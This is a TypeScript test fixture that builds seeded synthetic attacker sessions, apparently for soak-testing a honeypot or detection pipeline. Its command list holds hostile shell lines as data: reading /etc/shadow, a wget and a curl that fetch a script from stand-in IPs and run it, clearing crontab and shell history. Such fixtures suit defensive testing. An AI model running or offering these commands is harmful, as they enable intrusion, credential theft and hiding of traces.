import type { Publication } from "../../lib/bus/bus.ts";
import { sessionEvent } from "../harness/fixture_events.ts";
import { logUniform, seededRandom } from "../harness/random.ts";

/** Bytes of the smallest and of the largest session. */
const [LEAST_BYTES, MOST_BYTES] = [300, 200_000];

/** Most commands of one session; what lacks to its size is what its programs said. */
const MOST_COMMANDS = 30;

/** Different sources, each an attacker of its own. */
const ATTACKERS = 977;

/** Commands that many rules know, and some that none does. */
const COMMANDS = [
  "cat /etc/shadow",
  "uname -a",
  "wget http://192.0.2.7/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh",
  "echo hello",
  "crontab -r",
  "id; whoami",
  "curl -s http://192.0.2.9/x | sh",
  "history -c",
  "cd /tmp",
  "ps aux | grep xmrig",
  "cat /proc/cpuinfo",
  "ls -la",
];

const LINES = "drwxr-xr-x 2 root root 4096 Jan  1 00:00 lib\n".repeat(5_000);

/** Sessions of every size, each order of magnitude as often as the next, the same in every run of a seed. */
export class SizedSessions {
  readonly #random: () => number;
  #count = 0;

  /** @param seed decides sizes and commands */
  constructor(seed: number) {
    this.#random = seededRandom(seed);
  }

  /** The next session. */
  next(): Publication {
    const index = this.#count++;
    const bytes = logUniform(this.#random, LEAST_BYTES, MOST_BYTES);
    const count = 1 + Math.floor(Math.min(MOST_COMMANDS - 1, bytes / 500) * this.#random());
    const commands = Array.from(
      { length: count },
      () => COMMANDS[Math.floor(this.#random() * COMMANDS.length)]!,
    );
    const attacker = { attacker_uuid: `attacker-${index % ATTACKERS}` };
    const bare = sessionEvent(`soak-${index}`, commands, attacker);
    const lacking = Math.max(0, bytes - bare.data.length);
    return sessionEvent(`soak-${index}`, commands, {
      ...attacker,
      terminal_output: LINES.slice(0, lacking),
    });
  }
}
